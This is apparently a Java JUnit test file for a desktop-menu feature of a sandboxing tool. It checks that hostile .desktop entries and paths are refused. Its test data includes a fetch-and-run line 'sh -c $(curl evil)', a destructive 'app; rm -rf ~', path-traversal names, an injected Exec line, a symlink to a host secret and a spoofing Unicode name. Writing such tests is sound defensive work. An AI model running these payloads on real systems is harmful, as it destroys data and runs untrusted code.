package dev.airlock.menu;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.airlock.domain.Label;
import dev.airlock.testing.Threat;
import dev.airlock.xdg.MalformedEntryException;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code airlock menu}: reading a domain's applications fail-closed, and the entries and icons written for them. */
class MenuTest {
    private static final String FIREFOX = """
            [Desktop Entry]
            Version=1.0
            Name=Firefox ESR
            Name[de]=Firefox ESR (de)
            Exec=/usr/lib/firefox-esr/firefox-esr %u
            Icon=firefox-esr
            Terminal=false
            Type=Application
            Categories=Network;WebBrowser;

            [Desktop Action new-window]
            Name=New Window
            Exec=/usr/lib/firefox-esr/firefox-esr --new-window %u
            """;
    private static final List<String> LAUNCHER = List.of("/opt/airlock dir/airlock");

    @TempDir
    Path tmp;

    private Installation.Dirs dirs;

    @BeforeEach
    void home() {
        dirs = Installation.Dirs.of(Map.of("HOME", tmp.resolve("home").toString()));
    }

    private static AppEntry parse(String id, String text) throws MalformedEntryException {
        return AppEntry.parse(id, text.getBytes(StandardCharsets.UTF_8));
    }

    private static String entry(String exec) {
        return "[Desktop Entry]\nType=Application\nName=App\nExec=" + exec + "\n";
    }

    @Test
    void anApplicationsEntryGivesItsNameIconAndCommandWithoutFieldCodes() throws Exception {
        AppEntry app = parse("firefox-esr", FIREFOX);
        assertThat(app.name()).isEqualTo("Firefox ESR");
        assertThat(app.icon()).isEqualTo("firefox-esr");
        assertThat(app.argv()).containsExactly("/usr/lib/firefox-esr/firefox-esr");
        assertThat(app.command()).isEqualTo("firefox-esr");
        assertThat(app.listed()).isTrue();
    }

    @Test
    void quotedArgumentsAndEscapesAreSplitAsTheSpecificationSays() throws Exception {
        assertThat(parse("x", entry("\"/opt/my app/run\" \"a\\\\\\\\b\" 100%% %F")).argv())
                .containsExactly("/opt/my app/run", "a\\b", "100%");
        assertThat(parse("x", entry("sh \"-c\" \"echo \\\\$HOME\"")).argv())
                .containsExactly("sh", "-c", "echo $HOME");
        assertThat(parse("x", entry("xterm")).listed()).isTrue();
        assertThat(parse("x", entry("xterm") + "NoDisplay=true\n").listed()).isFalse();
        assertThat(parse("x", entry("vim") + "Terminal=true\n").listed()).isFalse();
    }

    @Test
    void malformedOrHostileEntriesAreRefusedWhole() throws Exception {
        Map<String, String> hostile = Map.of(
                "a shell command hidden in Exec", entry("sh -c $(curl evil)"),
                "a command separator", entry("app; rm -rf ~"),
                "an unterminated quote", entry("\"app"),
                "a second Exec overriding the first", entry("app") + "Exec=evil\n",
                "a link rather than an application", "[Desktop Entry]\nType=Link\nName=x\nURL=file:///etc\n",
                "a hidden (deleted) entry", entry("app") + "Hidden=true\n",
                "a name that reverses the text after it", entry("app").replace("Name=App", "Name=\u202eevil"),
                "an unknown field code", entry("app %z"),
                "no [Desktop Entry] group", "Name=x\nExec=app\nType=Application\n");
        for (Map.Entry<String, String> h : hostile.entrySet()) {
            Threat.named(h.getKey(), () -> assertThatThrownBy(() -> parse("x", h.getValue()))
                    .isInstanceOf(MalformedEntryException.class));
        }
        Threat.named("an oversized file", () -> assertThatThrownBy(() -> AppEntry.parse("x",
                new byte[AppEntry.MAX_BYTES + 1])).isInstanceOf(MalformedEntryException.class));
        Threat.named("bytes that are not UTF-8", () -> assertThatThrownBy(() -> AppEntry.parse("x",
                (entry("app") + "Comment=\u00ff\n").getBytes(StandardCharsets.ISO_8859_1)))
                .isInstanceOf(MalformedEntryException.class));
        Threat.named("an id that is a path", () -> assertThatThrownBy(() -> parse("../../.bashrc", entry("app")))
                .isInstanceOf(MalformedEntryException.class));
    }

    @Test
    void aNameCannotDrawASecondLineThatPassesForAnotherDomainsEntry() throws Exception {
        for (String escape : List.of("\\n", "\\r", "\\t")) {
            Threat.named("a Name with the escape " + escape, () -> assertThatThrownBy(() -> parse("x",
                    entry("app").replace("Name=App", "Name=App" + escape + "[vault] Passwords")))
                    .isInstanceOf(MalformedEntryException.class).hasMessageContaining("control character"));
        }
    }

    @Test
    void anApplicationsArgumentsCannotEscapeTheDomainThroughTheExecLine() throws Exception {
        List<String> argv = List.of("/usr/bin/app", "it's \"quoted\"", "$HOME", "`id`", "a b", "100%", "back\\slash",
                "--", ";", "~");
        AppEntry app = new AppEntry("app", "App", "", argv, true);
        String text = MenuEntry.render("work", app, LAUNCHER, tmp.resolve("icon.png"));
        // Read back by the specification's rules: the host runs airlock run work -- and the arguments, unchanged.
        List<String> expected = new ArrayList<>(LAUNCHER);
        expected.addAll(List.of("run", "work", "--"));
        expected.addAll(argv);
        assertThat(parse("entry", text).argv()).isEqualTo(expected);
    }

    @Test
    void anEntryThatCannotBeQuotedSafelyIsRefused() {
        AppEntry app = new AppEntry("app", "App", "", List.of("/usr/bin/app", "50% off"), true);
        assertThatThrownBy(() -> MenuEntry.render("work", app, LAUNCHER, tmp.resolve("i.png")))
                .isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void addWritesAValidEntryNamedAfterTheDomainWithAnIconInItsColour() throws Exception {
        AppEntry app = parse("firefox-esr", FIREFOX);
        List<Installation.Change> changes = Menu.add(dirs, "work", Label.BLUE, app, LAUNCHER, List.of(), tmp);
        assertThat(changes).allMatch(c -> c.status() == Installation.Status.WRITTEN).hasSize(2);
        Path desktop = dirs.applications().resolve("airlock-work-firefox-esr.desktop");
        String text = Files.readString(desktop);
        assertThat(text).contains("Name=[work] Firefox ESR\n",
                "Exec=\"/opt/airlock dir/airlock\" run work -- /usr/lib/firefox-esr/firefox-esr\n");
        Path icon = dirs.dataHome().resolve("icons/hicolor/64x64/apps/airlock-work-firefox-esr.png");
        assertThat(text).contains("Icon=" + icon + "\n");
        BufferedImage img = ImageIO.read(icon.toFile());
        assertThat(img.getWidth()).isEqualTo(Icons.SIZE);
        // No firefox icon in the (empty) folders given: the generated square, in the label's colour at its corner.
        assertThat(img.getRGB(8, 8) & 0xffffff).isEqualTo(Label.BLUE.rgb());
        if (FileManagersTest.onPath("desktop-file-validate")) {
            FileManagersTest.Validation v = FileManagersTest.validate(desktop);
            assertThat(v.code()).as(v.output()).isZero();
            assertThat(v.output()).as(v.output()).doesNotContain("error:").doesNotContain("warning:");
        }
        assertThat(Menu.list(dirs)).containsExactly(new MenuEntry.Listed("work", "firefox-esr",
                "[work] Firefox ESR"));
        assertThat(Menu.add(dirs, "work", Label.BLUE, app, LAUNCHER, List.of(), tmp))
                .allMatch(c -> c.status() == Installation.Status.UNCHANGED);
        assertThat(Menu.remove(dirs, "work", "firefox-esr")).hasSize(2)
                .allMatch(c -> c.status() == Installation.Status.REMOVED);
        assertThat(desktop).doesNotExist();
        assertThat(icon).doesNotExist();
        assertThat(Menu.list(dirs)).isEmpty();
    }

    @Test
    void generatedEntriesPassDesktopFileValidate() throws Exception {
        assumeTrue(FileManagersTest.onPath("desktop-file-validate"),
                "desktop-file-validate (desktop-file-utils) is not installed");
        AppEntry app = new AppEntry("odd", "Odd \\ name; with = signs", "", List.of("/usr/bin/odd", "a b", "$X"),
                true);
        Menu.add(dirs, "personal", Label.YELLOW, app, LAUNCHER, List.of(), tmp);
        FileManagersTest.Validation v = FileManagersTest.validate(dirs.applications()
                .resolve("airlock-personal-odd.desktop"));
        assertThat(v.code()).as(v.output()).isZero();
        assertThat(v.output()).doesNotContain("error:");
    }

    @Test
    void anApplicationsPngIconIsTintedWithTheLabelColour() throws Exception {
        Path icons = Files.createDirectories(tmp.resolve("icons/48x48/apps"));
        BufferedImage white = new BufferedImage(48, 48, BufferedImage.TYPE_INT_ARGB);
        for (int y = 0; y < 48; y++) {
            for (int x = 0; x < 48; x++) {
                white.setRGB(x, y, x < 24 ? 0xffffffff : 0x00000000);
            }
        }
        ByteArrayOutputStream png = new ByteArrayOutputStream();
        ImageIO.write(white, "png", png);
        Files.write(icons.resolve("firefox-esr.png"), png.toByteArray());
        Menu.add(dirs, "work", Label.RED, parse("firefox-esr", FIREFOX), LAUNCHER, List.of(tmp.resolve("icons")),
                tmp.resolve("no pixmaps"));
        BufferedImage img = ImageIO.read(dirs.dataHome()
                .resolve("icons/hicolor/64x64/apps/airlock-work-firefox-esr.png").toFile());
        assertThat(img.getRGB(4, 32)).isEqualTo(0xff000000 | Label.RED.rgb());
        assertThat(img.getRGB(60, 32) >>> 24).as("transparency kept").isZero();
    }

    @Test
    void anIconPathIntoADomainsHomeIsNeverDecodedOnTheHost() throws Exception {
        Path home = Files.createDirectories(tmp.resolve("domains/work/home"));
        Files.write(home.resolve("evil.png"), new byte[] {(byte) 0x89, 'P', 'N', 'G'});
        assertThat(Menu.findIcon(home.resolve("evil.png").toString(), List.of(tmp.resolve("icons")),
                tmp.resolve("pixmaps"))).isEmpty();
        assertThat(Menu.findIcon("../../domains/work/home/evil", List.of(tmp.resolve("icons")),
                tmp.resolve("pixmaps"))).isEmpty();
        assertThat(Menu.findIcon(tmp.resolve("icons/../domains/work/home/evil.png").toString(),
                List.of(tmp.resolve("icons")), tmp.resolve("pixmaps"))).isEmpty();
    }

    @Test
    void aCorruptOrHugeIconGivesTheGeneratedOne() {
        assertThat(Icons.tinted(new byte[] {1, 2, 3}, Label.RED.rgb())).isEmpty();
        byte[] claim = Menu.marked(Icons.generated("x", 0));
        // A PNG header claiming 100000 x 100000 pixels: refused before any pixel is decoded.
        ByteBuffer.wrap(claim).putInt(16, 100_000).putInt(20, 100_000);
        assertThat(Icons.tinted(claim, Label.RED.rgb())).isEmpty();
    }

    @Test
    void removeLeavesAUsersOwnEntryOfTheSameName() throws Exception {
        Path theirs = Files.createDirectories(dirs.applications()).resolve("airlock-work-firefox-esr.desktop");
        Files.writeString(theirs, FIREFOX);
        assertThat(Menu.remove(dirs, "work", "firefox-esr"))
                .containsExactly(new Installation.Change(theirs, Installation.Status.NOT_OURS));
        assertThat(theirs).hasContent(FIREFOX);
        assertThat(Menu.list(dirs)).isEmpty();
    }

    @Test
    void aDomainsHomeEntriesOverrideTheSystemsButLinksAreNotFollowed() throws Exception {
        Path system = Files.createDirectories(tmp.resolve("usr/share/applications"));
        Files.writeString(system.resolve("firefox-esr.desktop"), FIREFOX);
        Files.writeString(system.resolve("xterm.desktop"), entry("xterm").replace("Name=App", "Name=XTerm"));
        Path home = tmp.resolve("domains/work/home");
        Path apps = Files.createDirectories(home.resolve(".local/share/applications"));
        Files.writeString(apps.resolve("xterm.desktop"), entry("xterm -bg black").replace("Name=App", "Name=Mine"));
        Path secret = Files.writeString(tmp.resolve("host-secret.desktop"), entry("secret").replace("Name=App",
                "Name=Host secret"));
        Files.createSymbolicLink(apps.resolve("stolen.desktop"), secret);
        Files.write(apps.resolve("big.desktop"), new byte[AppEntry.MAX_BYTES + 10]);
        Applications.Found found = Applications.of(List.of(system), Optional.of(home));
        assertThat(found.find("xterm").orElseThrow().name()).isEqualTo("Mine");
        assertThat(found.find("firefox-esr")).isPresent();
        Threat.named("a domain's link to a host file read as its application", () -> {
            assertThat(found.find("stolen")).isEmpty();
            assertThat(found.refused()).anyMatch(r -> r.startsWith("stolen.desktop") && r.contains("link"));
        });
        assertThat(found.refused()).anyMatch(r -> r.contains("big.desktop") && r.contains("larger"));
    }

    @Test
    void aDomainsApplicationsFolderThatIsALinkIsNotFollowed() throws Exception {
        Path elsewhere = Files.createDirectories(tmp.resolve("host-apps"));
        Files.writeString(elsewhere.resolve("x.desktop"), entry("x"));
        Path home = tmp.resolve("domains/work/home");
        Files.createDirectories(home.resolve(".local/share"));
        Files.createSymbolicLink(home.resolve(".local/share/applications"), elsewhere);
        Applications.Found found = Applications.of(List.of(), Optional.of(home));
        assertThat(found.apps()).isEmpty();
        assertThat(found.refused()).singleElement().asString().contains("link");
    }

    @Test
    void theMarkedIconIsStillAPngAndCarriesTheMarker() throws Exception {
        byte[] png = Menu.marked(Icons.generated("Firefox", Label.GREEN.rgb()));
        assertThat(new String(png, StandardCharsets.ISO_8859_1)).contains(FileManagers.MARKER);
        BufferedImage img = ImageIO.read(new ByteArrayInputStream(png));
        assertThat(img.getRGB(32, 4) & 0xffffff).isEqualTo(Label.GREEN.rgb());
    }

    @Test
    void aDomainOrApplicationNameCannotLeadOutOfTheApplicationsFolder() {
        for (String[] names : new String[][] {{"../../.config", "x"}, {"work", "../autostart/x"},
                {"work\nExec=evil", "x"}, {"work", ""}}) {
            assertThatThrownBy(() -> Menu.remove(dirs, names[0], names[1])).as(String.join(" ", names))
                    .isInstanceOf(IllegalArgumentException.class);
        }
    }
}
